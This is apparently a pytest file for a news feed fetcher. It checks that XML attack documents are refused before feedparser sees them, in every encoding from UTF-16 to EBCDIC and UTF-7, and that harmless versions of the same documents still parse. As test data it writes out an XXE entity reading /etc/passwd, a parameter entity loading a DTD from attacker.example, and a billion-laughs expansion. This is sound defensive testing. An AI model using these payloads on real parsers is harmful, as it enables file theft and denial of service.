"""The item cap and the entity refusal, decided on the document as the parser decodes it.

Every attack is tried in every encoding feedparser reads (UTF-8, UTF-16 and UTF-32 with and
without a byte order mark, EBCDIC, UTF-7, a charset given only by HTTP): each is refused
before feedparser sees a byte, and the same document made harmless parses in full, so the
encoding really was read.
"""

import codecs
import re
import time

import feedparser
import pytest

from newswire import fetch
from newswire.fetch import FetchError

CAP = 5


def _declared(name):
    return lambda doc: doc.replace("encoding='utf-8'", f"encoding='{name}'").encode(name)


def _bom(bom, name):
    return lambda doc: bom + _declared(name)(doc)


def _undeclared(name):
    return lambda doc: doc.replace(" encoding='utf-8'", "").encode(name)


def _utf7_shifted(doc):
    """UTF-7 with every markup '<' after the declaration written as +ADw-."""
    head, rest = doc.split("\n", 1)
    return (head.replace("utf-8", "utf-7") + "\n").encode() + rest.replace("<", "+ADw-").encode()


RSS = "application/rss+xml"
# name: (how the document's text becomes bytes, the Content-Type it is served with)
ENCODINGS = {
    "utf-8": (lambda doc: doc.encode("utf-8"), RSS),
    "utf-8 BOM": (lambda doc: codecs.BOM_UTF8 + doc.encode("utf-8"), RSS),
    "utf-16le BOM": (_bom(codecs.BOM_UTF16_LE, "utf-16-le"), RSS),
    "utf-16be BOM": (_bom(codecs.BOM_UTF16_BE, "utf-16-be"), RSS),
    "utf-16le": (_declared("utf-16-le"), RSS),
    "utf-16be": (_declared("utf-16-be"), RSS),
    "utf-32le BOM": (_bom(codecs.BOM_UTF32_LE, "utf-32-le"), RSS),
    "utf-32be BOM": (_bom(codecs.BOM_UTF32_BE, "utf-32-be"), RSS),
    "utf-32le": (_declared("utf-32-le"), RSS),
    "utf-32be": (_declared("utf-32-be"), RSS),
    "EBCDIC cp037": (_declared("cp037"), RSS),
    "utf-7 declared": (_declared("utf-7"), RSS),
    "utf-7, < as +ADw-": (_utf7_shifted, RSS),
    "utf-16 by HTTP charset": (_undeclared("utf-16-le"), "application/xml; charset=utf-16le"),
    "utf-32 by HTTP charset": (_undeclared("utf-32-be"), "application/xml; charset=utf-32be"),
    "shift_jis declared": (_declared("shift_jis"), "application/xml"),
}

HEAD = "<?xml version='1.0' encoding='utf-8'?>\n"


def _items(n, tag="item", open_extra=""):
    return "".join(
        f"<{tag}{open_extra}><title>n{i}</title><guid>g{i}</guid></{tag}>" for i in range(n)
    )


def _rss(body, doctype=""):
    return f"{HEAD}{doctype}<rss version='2.0'><channel><title>t</title>{body}</channel></rss>"


LAUGHS = (
    "<!DOCTYPE rss [<!ENTITY a 'lol'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'>"
    "<!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;'>]>"
)
XXE = "<!DOCTYPE rss [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>"
PARAMETER = "<!DOCTYPE rss [<!ENTITY % p SYSTEM 'http://attacker.example/x.dtd'> %p;]>"
DOTTED = " xmlns:x.y='http://purl.org/rss/1.0/'"  # feedparser takes <x.y:item> as an item
ATOM = "<?xml version='1.0' encoding='utf-8'?>\n<feed xmlns='http://www.w3.org/2005/Atom'>"

# name: (hostile document, the same without the attack, what the refusal says)
ATTACKS = {
    "billion laughs": (_rss(_items(1) + "<item><title>&c;</title></item>", LAUGHS),
                       _rss(_items(2)), "declares XML entities"),
    "XXE": (_rss("<item><title>&xxe;</title></item>", XXE), _rss(_items(1)),
            "declares XML entities"),
    "parameter entity": (_rss(_items(1), PARAMETER), _rss(_items(1)), "declares XML entities"),
    "too many items": (_rss(_items(CAP + 1)), _rss(_items(CAP)), f"{CAP + 1} items; the limit"),
    "items with a dotted prefix": (
        _rss(_items(CAP + 1, "x.y:item", DOTTED)),
        _rss(_items(CAP, "x.y:item", DOTTED)),
        f"{CAP + 1} items; the limit",
    ),
    "too many Atom entries": (
        ATOM[len(HEAD):].join([HEAD, _items(CAP + 1, "entry") + "</feed>"]),
        ATOM[len(HEAD):].join([HEAD, _items(CAP, "entry") + "</feed>"]),
        f"{CAP + 1} items; the limit",
    ),
}  # fmt: skip


@pytest.fixture
def capped(settings):
    settings.NEWSWIRE_MAX_ITEMS = CAP
    return settings


@pytest.fixture
def parser_never_called(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("feedparser saw the document")

    monkeypatch.setattr(feedparser, "parse", refuse)


@pytest.mark.parametrize("attack", list(ATTACKS))
@pytest.mark.parametrize("encoding", list(ENCODINGS))
def test_attacks_are_refused_before_parsing_in_every_encoding(
    capped, parser_never_called, encoding, attack
):
    encode, content_type = ENCODINGS[encoding]
    hostile, _, message = ATTACKS[attack]
    body = encode(hostile)
    with pytest.raises(FetchError, match=message):
        fetch.parse(body, content_type, "https://wire.example/feed")


@pytest.mark.parametrize("attack", list(ATTACKS))
@pytest.mark.parametrize("encoding", list(ENCODINGS))
def test_the_same_documents_made_harmless_parse_in_full(capped, encoding, attack):
    encode, content_type = ENCODINGS[encoding]
    _, harmless, _ = ATTACKS[attack]
    expected = harmless.count("<title>n")
    feed = fetch.parse(encode(harmless), content_type, "https://wire.example/feed")
    assert [e["title"] for e in feed.entries] == [f"n{i}" for i in range(expected)]


def test_what_the_parser_returns_is_capped_too(capped, monkeypatch):
    """Should an item form escape the count, the parsed entries are refused, none stored."""
    monkeypatch.setattr(fetch, "_ITEM_TAGS", re.compile("(?!)"))
    with pytest.raises(FetchError, match=f"parsed to {CAP + 1} items; the limit is {CAP}"):
        fetch.parse(_rss(_items(CAP + 1)).encode(), RSS)


def test_forty_thousand_utf16_items_are_refused_in_milliseconds(settings, parser_never_called):
    """The issue's document: 40,000 UTF-16 items once took 81 s and 212 MB to store."""
    settings.NEWSWIRE_MAX_ITEMS = 1000
    body = _bom(codecs.BOM_UTF16_LE, "utf-16-le")(_rss(_items(40_000)))
    started = time.monotonic()
    with pytest.raises(FetchError, match="40,000 items; the limit is 1,000"):
        fetch.parse(body, RSS)
    assert time.monotonic() - started < 1.0
